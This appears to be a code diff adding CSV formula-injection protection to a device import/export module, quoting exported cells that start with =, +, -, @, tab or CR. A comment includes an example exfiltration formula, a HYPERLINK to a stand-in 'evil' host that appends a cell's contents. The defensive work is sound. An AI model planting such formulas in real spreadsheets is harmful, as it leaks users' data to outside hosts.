@@ -2,6 +2,7 @@
  * Bulk device import and export as CSV (header
  * `mac,vendor,model,label,ownerExtension,hotdeskEnabled,location`). An import is all rows or
  * none: every bad row is reported with its line number and reason, and nothing is written.
+ * Cells a spreadsheet would run as formulas are exported behind a `'` (see defuseCell).
  */
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
@@ -25,6 +26,26 @@ export interface ImportResult {
   created: number;
   updated: number;
   dryRun: boolean;
+}
+
+/**
+ * A spreadsheet runs a cell starting with = + - @ (or TAB or CR, which some strip first) as a
+ * formula: a label `=HYPERLINK("http://evil/?"&A1,"x")` would send the sheet's contents away
+ * when clicked. Export puts a single quote in front of such a cell, which spreadsheets show as
+ * text (OWASP's advice for CSV injection); import takes exactly one quote off again. A value
+ * that already starts with quotes before such a character gets one more on export, so every
+ * value comes back from export → import as it was.
+ */
+const FORMULA_START = /^'*[=+\-@\t\r]/;
+
+/** The cell as exported: defused if a spreadsheet would read it as a formula. */
+export function defuseCell(value: string): string {
+  return FORMULA_START.test(value) ? `'${value}` : value;
+}
+
+/** The cell as imported: one leading quote removed where export would have added it. */
+export function restoreCell(value: string): string {
+  return value.startsWith("'") && FORMULA_START.test(value) ? value.slice(1) : value;
 }
 
 const BOOL: Record<string, boolean> = { '': false, '0': false, false: false, no: false, '1': true, true: true, yes: true };
@@ -55,7 +76,7 @@ export class DeviceCsv {
       const rows: Array<{ line: number; input: DeviceInput }> = [];
       records.forEach((rec, i) => {
         const line = i + 2;
-        const [mac, vendor, model, label, owner, hotdesk, location] = rec as [string, string, string, string, string, string, string];
+        const [mac, vendor, model, label, owner, hotdesk, location] = rec.map(restoreCell) as [string, string, string, string, string, string, string];
         const errors: string[] = [];
         const hot = BOOL[hotdesk.toLowerCase()];
         if (hot === undefined) errors.push('hotdeskEnabled: expected true/false, yes/no or 1/0');
@@ -121,7 +142,7 @@ export class DeviceCsv {
       d.ownerExtension ?? '',
       d.hotdeskEnabled ? 'true' : 'false',
       d.locationId !== null ? (names.get(d.locationId) ?? String(d.locationId)) : '',
-    ]);
+    ].map(defuseCell));
     return stringify([CSV_COLUMNS as unknown as string[], ...rows]);
   }
 }
